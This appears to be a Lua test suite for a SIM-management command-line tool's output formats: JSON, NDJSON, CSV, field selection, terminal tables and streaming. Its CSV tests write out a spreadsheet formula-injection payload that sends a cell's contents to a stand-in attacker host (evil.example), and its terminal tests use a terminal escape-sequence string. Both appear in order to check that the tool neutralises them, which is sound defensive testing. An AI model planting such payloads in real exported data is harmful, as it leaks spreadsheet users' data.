-- `flexiroam` as a user runs it, against the sandbox: every output format
-- parsed back, integers exact, a table sized to the terminal, JSON when
-- piped, --fields, and a listing that streams page by page.
local json = require("flexiroam.json")
local csv = require("flexiroam.cli.csv")
local socket = require("socket")
local sandbox = require("spec.support.sandbox")
local cli = require("spec.support.cli")
local procs = require("spec.support.test_processes")

local KEY = "sandbox-key"

describe("flexiroam output", function()
  local t = cli.against_sandbox(lazy_setup, lazy_teardown, { sims = 60, seed = 3 })
  local client, home, env
  lazy_setup(function() client, home, env = t.client, t.home, t.env end)
  local run = function(args) return t.run(args) end

  it("writes JSON when stdout is a pipe: a listing is one array, integers exact", function()
    local r = run { "sims", "list", "--free" }
    assert.equals(0, r.code, r.err)
    local sims = assert(json.decode(r.out))
    assert.is_true(json.is_array(sims))
    local expected = assert(client:collect("list_inventory", { search_by = "availability", search = "free" }))
    assert.equals(#expected, #sims)
    assert.equals(expected[1].iccid, sims[1].iccid)
    if math.type then assert.equals("integer", math.type(sims[1].sku)) end -- LuaJIT: doubles
    assert.equals(expected[1].sku, sims[1].sku)
    assert.truthy(r.out:find('"sku":' .. expected[1].sku, 1, true), "the SKU is written as the integer it is")
  end)

  it("writes one JSON object a line with -o ndjson, and a record with `sims show`", function()
    local r = run { "sims", "list", "-o", "ndjson", "--max-pages", "1", "--limit", "7" }
    assert.equals(0, r.code, r.err)
    local n = 0
    for line in r.out:gmatch("[^\n]+") do
      n = n + 1
      local sim = assert(json.decode(line))
      assert.equals("string", type(sim.iccid))
    end
    assert.equals(7, n)
    local first = assert(json.decode(r.out:match("^[^\n]+")))
    local show = run { "sims", "show", first.iccid }
    assert.equals(0, show.code, show.err)
    local record = assert(json.decode(show.out))
    assert.equals(first.iccid, record.iccid)
    assert.equals(first.sku, record.sku)
  end)

  it("writes CSV with a header of every documented field (dotted for nested ones), parsed back", function()
    local r = run { "sims", "list", "-o", "csv" }
    assert.equals(0, r.code, r.err)
    local rows = assert(csv.parse(r.out))
    local header = rows[1]
    local at = {}
    for i, name in ipairs(header) do at[name] = i end
    assert.truthy(at.iccid and at.sku and at["balances.main_data"] and at["auto_topup_settings.enabled"])
    assert.equals(61, #rows) -- the header and the 60 SIMs
    local sims = assert(client:collect("list_inventory", {}))
    for i, sim in ipairs(sims) do
      assert.equals(sim.iccid, rows[i + 1][at.iccid])
      assert.equals(tostring(sim.sku), rows[i + 1][at.sku])
      assert.equals(tostring(sim.balances.main_data), rows[i + 1][at["balances.main_data"]])
    end
  end)

  it("--fields selects the fields of every format (and decodes only those)", function()
    local r = run { "sims", "list", "--fields", "iccid,balances.main_data", "--max-pages", "1", "--limit", "3" }
    assert.equals(0, r.code, r.err)
    for _, sim in ipairs(assert(json.decode(r.out))) do
      local keys = {}
      for k in pairs(sim) do keys[#keys + 1] = k end
      table.sort(keys)
      assert.same({ "balances", "iccid" }, keys)
      local nested = {}
      for k in pairs(sim.balances) do nested[#nested + 1] = k end
      assert.same({ "main_data" }, nested)
    end
    local c = run { "-o", "csv", "--fields", "sku,iccid", "plans", "list", "--max-pages", "1", "--limit", "2" }
    assert.equals(0, c.code, c.err)
    assert.equals("sku,iccid", c.out:match("^[^\n]+"))
  end)

  describe("CSV a spreadsheet opens", function()
    local HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    -- A SIM labelled with a formula (the label is the operator's or the
    -- API's, not ours), a user name that is a plain negative number, and a
    -- department in plain words.
    local function labelled_sim()
      local sim = assert(client:collect("list_inventory", {}, { max_items = 1 }))[1]
      assert(client:update_sim { iccid = sim.iccid, device_info = { name = HYPERLINK },
        user_info = { username = "-5", department = "Sales" } })
      return sim
    end
    -- A parsed row's cells, without the line it starts on.
    local function cells_of(row)
      local out = {}
      for i = 1, #row do out[i] = row[i] end
      return out
    end
    local FIELDS = "iccid,sku,device_info.name,user_info_username,user_info_department"

    it("writes text that would run as a formula after a quote; numbers and plain text exactly", function()
      local sim = labelled_sim()
      for _, args in ipairs {
        { "sims", "show", sim.iccid, "-o", "csv", "--fields", FIELDS },
        { "sims", "list", "--search-by", "iccid", "--search", sim.iccid, "-o", "csv", "--fields", FIELDS },
      } do
        local r = run(args)
        assert.equals(0, r.code, r.err)
        local rows = assert(csv.parse(r.out))
        assert.same({ sim.iccid, tostring(sim.sku), "'" .. HYPERLINK, "-5", "Sales" }, cells_of(rows[2]))
      end
    end)

    it("--csv-raw writes every cell exactly, formulas too", function()
      local sim = labelled_sim()
      local r = run { "sims", "show", sim.iccid, "-o", "csv", "--csv-raw", "--fields", FIELDS }
      assert.equals(0, r.code, r.err)
      assert.same({ sim.iccid, tostring(sim.sku), HYPERLINK, "-5", "Sales" }, cells_of(assert(csv.parse(r.out))[2]))
      local help = run { "help" }
      assert.truthy(help.out:find("--csv-raw", 1, true), "the manual lists --csv-raw")
    end)

    it("guards only strings: a negative number stays a number, a header from a server's key is guarded", function()
      local output = require("flexiroam.cli.output")
      local function written(records, opts)
        local parts = {}
        local w = output.list { format = "csv", write = function(s) parts[#parts + 1] = s end,
          fields = opts.fields, csv_raw = opts.raw }
        for _, record in ipairs(records) do w:add(record) end
        w:finish()
        return table.concat(parts)
      end
      local keyed = { { ["@key"] = "x" }, { ["@key"] = "y" } }
      assert.equals("'@key\nx\ny\n", written(keyed, {}))
      assert.equals("@key\nx\ny\n", written(keyed, { raw = true }))
      local rows = assert(csv.parse(written({ { balance = -5, note = "-5", label = "plain", tab = "\t=1+2",
        sum = "+1+2" } }, { fields = { "balance", "note", "label", "tab", "sum" } })))
      assert.same({ "-5", "-5", "plain", "'\t=1+2", "'+1+2" }, cells_of(rows[2]))
    end)
  end)

  describe("on a terminal", function()
    local have = cli.have_pty()

    it("prints a table cut to the terminal's width, numbers aligned right, bytes and money readable", function()
      if not have then return pending("util-linux script is not installed") end
      local r = cli.pty(home, { "plans", "list", "--country", "FRA" }, { env = env, columns = 60 })
      assert.equals(0, r.code, r.out)
      local lines = {}
      for line in r.out:gmatch("[^\n]+") do lines[#lines + 1] = line end
      assert.truthy(lines[1]:find("^ID%s+NAME"), lines[1])
      for _, line in ipairs(lines) do
        local _, chars = line:gsub("[^\128-\191]", "")
        assert.is_true(chars <= 60, "wider than the terminal: " .. line)
      end
      assert.truthy(r.out:find("3.00 GB", 1, true))
      assert.truthy(r.out:find("%d+%.%d%d USD"))
      assert.truthy(r.out:find("\226\128\166", 1, true), "a cell too wide is cut with an ellipsis")
    end)

    it("shows one record as field/value lines", function()
      if not have then return pending("util-linux script is not installed") end
      local sim = assert(client:collect("list_inventory", {}, { max_items = 1 }))[1]
      local r = cli.pty(home, { "sims", "show", sim.iccid }, { env = env, columns = 120 })
      assert.equals(0, r.code, r.out)
      assert.truthy(r.out:find("iccid%s+" .. sim.iccid))
      assert.truthy(r.out:find("sku%s+" .. sim.sku))
    end)

    it("never lets data move the cursor: control characters in a cell are shown escaped", function()
      -- The sandbox refuses them in what it stores; the API may not.
      local cells = require("flexiroam.cli.cells")
      assert.equals("evil\\x1B[2J\\x0D", cells.readable("evil\27[2J\r"))
      assert.equals("evil\27[2J\r", cells.exact("evil\27[2J\r")) -- CSV keeps the data exact
    end)
  end)

  it("streams: the first page is written while later pages are still being read", function()
    local slow = sandbox.start { sims = 60, seed = 3, latency_ms = 300 }
    local child = cli.spawn(home, { "sims", "list", "-o", "ndjson", "--limit", "10" },
      { env = { FLEXIROAM_API_KEY = KEY, FLEXIROAM_BASE_URL = slow.url } })
    local deadline = socket.gettime() + 10
    local out = ""
    while not out:find("\n") and socket.gettime() < deadline do
      socket.sleep(0.02)
      out = cli.output(child)
    end
    local still_running = procs.alive(child.pid)
    local r = cli.wait(child)
    slow:stop()
    assert.equals(0, r.code, r.err)
    assert.truthy(out:find("\n"), "nothing written")
    assert.is_true(still_running, "the first record came only once every page was read")
    local n = select(2, r.out:gsub("\n", ""))
    assert.equals(60, n)
  end)
end)
